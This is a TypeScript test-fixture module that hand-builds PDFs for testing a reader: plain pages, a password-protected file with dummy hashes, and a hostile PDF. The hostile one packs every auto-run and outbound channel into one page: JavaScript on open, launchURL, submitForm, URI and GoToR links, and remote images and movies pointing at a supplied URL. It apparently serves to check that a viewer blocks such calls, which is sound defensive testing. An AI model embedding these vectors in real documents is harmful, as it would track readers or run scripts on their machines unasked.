/** Small PDFs, written by hand: ordinary ones, hostile ones, and ones that can't be opened. */

/** @param objects from number 1 on, each without "obj" and "endobj". The first is the catalogue. @param trailer more of the trailer. */
function assemble(objects: readonly string[], trailer = ""): Uint8Array<ArrayBuffer> {
	let text = "%PDF-1.7\n";
	const offsets = objects.map((object, index) => {
		const offset = text.length;
		text += `${index + 1} 0 obj\n${object}\nendobj\n`;
		return offset;
	});
	const xref = text.length;
	const rows = offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
	text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`;
	text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${xref}\n%%EOF\n`;
	return Uint8Array.from(text, (character) => character.charCodeAt(0));
}

const stream = (dictionary: string, content: string) => `<< ${dictionary} /Length ${content.length} >>\nstream\n${content}\nendstream`;

interface Extra {
	/** The font of each page. */
	font?: string;
	/** More of the catalogue and of each page, and more objects. They begin at number 3 + 2 * pages + 1. */
	catalogue?: string;
	page?: string;
	resources?: string;
	draws?: string;
	objects?: readonly string[];
	trailer?: string;
}

/** A PDF with one line of text and a black square on each page. */
export function pdfOf(lines: readonly string[], extra: Extra = {}): Uint8Array<ArrayBuffer> {
	const pageNumber = (index: number) => 4 + 2 * index;
	const pages = lines.flatMap((line, index) => [
		`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${pageNumber(index) + 1} 0 R
		/Resources << /Font << /F1 ${extra.font ?? "3 0 R"} >> ${extra.resources ?? ""} >> ${extra.page ?? ""} >>`,
		stream("", `BT /F1 24 Tf 60 760 Td (${line}) Tj ET 60 500 200 200 re f ${extra.draws ?? ""}`),
	]);
	return assemble(
		[
			`<< /Type /Catalog /Pages 2 0 R ${extra.catalogue ?? ""} >>`,
			`<< /Type /Pages /Count ${lines.length} /Kids [${lines.map((_, index) => `${pageNumber(index)} 0 R`).join(" ")}] >>`,
			"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
			...pages,
			...(extra.objects ?? []),
		],
		extra.trailer,
	);
}

/** One page that tries everything by which a PDF can reach a server or run a script. @param url of a server that nobody may ask. */
export function hostilePdf(line: string, url: string): Uint8Array<ArrayBuffer> {
	const script = `(try { app.launchURL\\("${url}/script", true\\); } catch \\(e\\) {} this.submitForm\\("${url}/submit"\\); globalThis.isRun = 1;)`;
	const run = `<< /S /JavaScript /JS ${script} >>`;
	return pdfOf([line], {
		catalogue: `/OpenAction ${run} /AA << /WC ${run} /DP ${run} >> /URI << /Base (${url}/base/) >>
			/Names << /JavaScript << /Names [(run) ${run}] >> >> /AcroForm << /Fields [8 0 R] /CO [8 0 R] >>`,
		page: `/AA << /O << /S /URI /URI (${url}/opened) >> /C ${run} >> /Annots [6 0 R 7 0 R 8 0 R 9 0 R]`,
		resources: "/XObject << /Im1 10 0 R /Im2 11 0 R >>",
		draws: "q 100 0 0 100 60 300 cm /Im1 Do Q q 100 0 0 100 200 300 cm /Im2 Do Q",
		objects: [
			`<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A << /S /URI /URI (${url}/link) >> >>`,
			`<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /GoToR /F << /FS /URL /F (${url}/other.pdf) >> /D [0 /Fit] >> >>`,
			`<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [60 200 200 230] /AA << /K ${run} /F ${run} /V ${run} /C ${run} >>
				/A << /S /SubmitForm /F << /FS /URL /F (${url}/form) >> >> >>`,
			`<< /Type /Annot /Subtype /Movie /Rect [300 200 500 400] /Movie << /F << /FS /URL /F (${url}/movie) >> >> /A true >>`,
			stream(
				`/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8
				/F << /FS /URL /F (${url}/picture) >>`,
				"x".repeat(64),
			),
			stream(
				`/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref << /F << /FS /URL /F (${url}/reference.pdf) >> /Page 0 >>`,
				"0 0 1 1 re f",
			),
		],
	});
}

/** A PDF that a password protects. The hashes of its passwords are those of no text that anybody knows. */
export function protectedPdf(): Uint8Array<ArrayBuffer> {
	const hash = `<${"5a".repeat(32)}>`;
	return pdfOf(["nobody reads this"], {
		objects: [`<< /Filter /Standard /V 1 /R 2 /O ${hash} /U ${hash} /P -44 >>`],
		trailer: `/Encrypt 6 0 R /ID [<${"00".repeat(16)}> <${"00".repeat(16)}>]`,
	});
}
